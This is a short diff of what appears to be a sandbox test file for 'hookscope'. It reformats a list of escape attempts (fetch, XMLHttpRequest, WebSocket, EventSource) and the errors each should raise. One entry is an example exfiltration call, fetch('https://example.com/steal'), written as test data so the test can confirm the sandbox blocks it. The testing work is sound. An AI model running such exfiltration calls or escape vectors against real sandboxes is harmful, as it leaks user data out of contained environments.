@@ -14,7 +14,11 @@ const g = '(globalThis as unknown as Record<string, any>)';
 
 const ESCAPES: [name: string, code: string, seen: string][] = [
   // fetch is allowed (spec 7.3) but goes only to the user's HTTP mocks: none matches here.
-  ['fetch', "await fetch('https://example.com/steal');", '(TypeError: fetch failed: No HTTP mock matches GET https://example.com/steal. hookscope never uses the network'],
+  [
+    'fetch',
+    "await fetch('https://example.com/steal');",
+    '(TypeError: fetch failed: No HTTP mock matches GET https://example.com/steal. hookscope never uses the network',
+  ],
   ['xhr', `new ${g}['XMLHttpRequest']();`, `(Error: XMLHttpRequest is not available to apps. ${HTTP_ADVICE}`],
   ['websocket', `new ${g}['WebSocket']('wss://example.com/socket');`, `(Error: WebSocket is not available to apps. ${HTTP_ADVICE}`],
   ['eventsource', `new ${g}['EventSource']('https://example.com/events');`, `(Error: EventSource is not available to apps. ${HTTP_ADVICE}`],
